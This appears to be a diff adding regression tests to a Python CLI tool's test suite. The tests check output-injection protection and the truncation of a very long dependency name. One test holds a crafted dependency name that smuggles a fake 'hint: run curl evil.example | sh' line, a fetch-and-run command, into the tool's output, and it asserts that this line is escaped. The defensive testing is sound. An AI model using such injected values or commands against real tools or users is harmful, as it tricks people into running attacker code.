@@ -113,3 +113,38 @@ def test_every_reporter_shows_as_errors_do() -> None:
         assert SECRET[:10] not in said and "y" * 1000 not in said
         assert "(5,001 characters)" in said
     assert SECRET[:10] not in str(recorder.events)
+
+
+def _pyproject(tmp_path: Path, dependencies: str) -> tuple[int, str]:
+    (tmp_path / "pyproject.toml").write_text(
+        '[tool.poetry]\nname = "demo"\nversion = "0.1.0"\n'
+        f'[tool.poetry.dependencies]\npython = "^3.11"\n{dependencies}'
+    )
+    (tmp_path / "mlenv.toml").unlink(missing_ok=True)
+    code, out, err = run_in_process(["init", "--from", "pyproject.toml"], tmp_path)
+    return code, out + err
+
+
+def test_a_key_cannot_forge_a_hint_line(tmp_path: Path) -> None:
+    """A dependency's name is where the problem is: its newline began a line that read as
+    mlenv's own ``hint:`` (``  hint: pip install evil``)."""
+    name = json.dumps("numpy\n  hint: run curl evil.example | sh")
+    code, said = _pyproject(tmp_path, f'{name} = {{ version = "^1.0" }}\n')
+    assert code == 1
+    assert not any(line.lstrip().startswith("hint: run curl") for line in said.split("\n"))
+    assert "numpy\\n  hint: run curl" in said  # still named, escaped
+
+
+def test_the_prerelease_note_keeps_its_advice_beside_a_huge_name(tmp_path: Path) -> None:
+    """Said once, cut to a line, and the advice first: a 128 KiB name was printed whole,
+    and cut after it the note would say nothing."""
+    code, said = _pyproject(
+        tmp_path,
+        'torch = { version = "^2.0", allow-prereleases = true }\n'
+        + "n" * 131072
+        + ' = { version = "^1.0", allow-prereleases = true }\n',
+    )
+    assert code == 0, said
+    assert said.count("allow-prereleases = true") == 1
+    assert '"pkg==2.0rc1"' in said and "torch" in said
+    assert "n" * 2000 not in said
